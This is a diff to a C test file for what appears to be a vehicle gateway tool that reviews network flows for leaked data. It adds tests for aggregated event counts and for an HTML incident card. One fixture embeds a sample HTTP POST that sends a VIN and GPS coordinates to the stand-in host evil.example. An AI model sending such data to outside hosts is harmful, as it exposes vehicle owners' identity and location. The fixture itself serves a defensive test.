@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 #include "gateway/review/elsewhere.h"
 
+#include "gateway/review/page.h"
 #include "tests/gateway/review_kit.h"
 
 static struct vehicle vehicle;
@@ -21,7 +22,7 @@ static struct event name_event(const char *name, enum event_action action,
     return event;
 }
 
-static bool find(const struct event *events, size_t count, uint32_t incident)
+static void read_vehicle(const struct event *events, size_t count)
 {
     kit_empty();
     struct store *store = kit_open();
@@ -29,11 +30,27 @@ static bool find(const struct event *events, size_t count, uint32_t incident)
     EXPECT(vehicle_open(&vehicle, "van-1", kit_dir, &why));
     while (vehicle_read(&vehicle) == VEHICLE_READ) {
     }
+    store_close(store);
+}
+
+static bool find(const struct event *events, size_t count, uint32_t incident)
+{
+    read_vehicle(events, count);
     EXPECT_EQ(vehicle.merge.count, count);
     bool found = elsewhere_find(&elsewhere, &vehicle, incident, &told);
     vehicle_close(&vehicle);
-    store_close(store);
     return found;
+}
+
+/* Names that were summed up: of what each was called the ledger knows nothing. */
+static struct event crowd_event(enum event_action action, uint64_t cause, unsigned minute,
+                                uint64_t count)
+{
+    struct event event = name_event("", action, minute);
+    event.name.type = 0;
+    event.cause = cause;
+    event.count = count;
+    return event;
 }
 
 static void test_what_was_told_is_found_where_it_passed(void)
@@ -77,6 +94,85 @@ static void test_more_than_are_shown_are_counted(void)
     EXPECT(find(events, count, 0));
     EXPECT_EQ(elsewhere.passed, count - 1);
     EXPECT_EQ(elsewhere.shown_count, ELSEWHERE_SHOWN_MAX);
+}
+
+static void test_names_that_were_only_counted_are_told(void)
+{
+    struct event events[] = {
+        kit_flow("stranger.example", 1, 0),
+        crowd_event(EVENT_PASSED, 2, 10, 30),
+        crowd_event(EVENT_WOULD_DROP, 3, 11, 4),
+        crowd_event(EVENT_DROPPED, 4, 12, 500),
+        crowd_event(EVENT_PASSED, 5, 1435, 600),
+        crowd_event(EVENT_PASSED, 6, 2000, 7000),
+        kit_flow("", 7, 13),
+        kit_flow("", 8, 14),
+    };
+    events[6].action = EVENT_PASSED;
+    events[7].action = EVENT_PASSED;
+    events[7].subject = EVENT_SYSTEM;
+    events[7].system = (struct event_system){.about = ""};
+    content_init(&told);
+    content_add_position(&told, 48.13988, 11.57010);
+    EXPECT(find(events, 8, 0));
+    EXPECT_EQ(elsewhere.crowd, 636);
+    EXPECT_EQ(elsewhere.passed + elsewhere.denied, 0);
+    for (unsigned i = 1; i < 6; i++) { /* one that goes on beyond the time searched */
+        events[i] = crowd_event(EVENT_PASSED, 2, 1405 + i * 15, i);
+    }
+    read_vehicle(events, 6);
+    EXPECT_EQ(vehicle.merge.count, 2);
+    EXPECT(elsewhere_find(&elsewhere, &vehicle, 0, &told));
+    EXPECT_EQ(elsewhere.crowd, 3);
+    vehicle_close(&vehicle);
+}
+
+static struct event said_event(void)
+{
+    static const char said[] =
+        "POST /collect?v=2 HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 64\r\n\r\n"
+        "{\"vin\":\"WVWZZZ1JZXW000001\",\"lat\":48.13713,\"lon\":11.57544,\"x\":\"<b>\"}";
+    struct event event = kit_flow("evil.example", 1, 0);
+    event.reason = REASON_DECOY_KEPT;
+    event.flow.protocol = TRAFFIC_HTTP;
+    event.flow.evidence.part = event.flow.evidence.parts = 1;
+    event.flow.evidence.len = sizeof said - 1;
+    memcpy(event.flow.evidence.bytes, said, sizeof said - 1);
+    return event;
+}
+
+/* The card of the first incident; the caller's to free. */
+static char *print_card(const struct event *events, size_t count)
+{
+    char *card = NULL;
+    size_t len = 0;
+    FILE *out = open_memstream(&card, &len);
+    read_vehicle(events, count);
+    page_elsewhere(out, &vehicle, 0);
+    (void)fclose(out);
+    vehicle_close(&vehicle);
+    return card;
+}
+
+static void test_the_page_says_nothing_of_what_was_only_counted(void)
+{
+    struct event events[] = {said_event(), crowd_event(EVENT_PASSED, 2, 10, 1234)};
+    char *card = print_card(events, 1);
+    EXPECT(strstr(card, "no server name that was let through holds it. Said") != NULL);
+    free(card);
+    card = print_card(events, 2);
+    EXPECT(strstr(card, "no server name that was let through holds it") == NULL);
+    EXPECT(strstr(card, "<strong>1,234 more names or connections that were let through "
+                        "were only counted") != NULL);
+    EXPECT(strstr(card, "whether one of them holds it is not known") != NULL);
+    free(card);
+    struct event nearest[] = {kit_flow("stranger.example", 3, 0), said_event(),
+                              crowd_event(EVENT_PASSED, 2, 10, 1234)};
+    nearest[1].reason = nearest[0].reason;
+    card = print_card(nearest, 3);
+    EXPECT(strstr(card, "no server name that was let through holds what") == NULL);
+    EXPECT(strstr(card, " holds what that one said. <strong>1,234 more names") != NULL);
+    free(card);
 }
 
 static void test_only_what_a_policy_takes_is_looked_for(void)
@@ -145,6 +241,8 @@ int main(void)
     kit_start();
     RUN(test_what_was_told_is_found_where_it_passed);
     RUN(test_more_than_are_shown_are_counted);
+    RUN(test_names_that_were_only_counted_are_told);
+    RUN(test_the_page_says_nothing_of_what_was_only_counted);
     RUN(test_only_what_a_policy_takes_is_looked_for);
     RUN(test_places_near_each_other_are_one_and_four_are_the_most);
     RUN(test_the_nearest_of_the_reason_that_has_bytes_is_found);
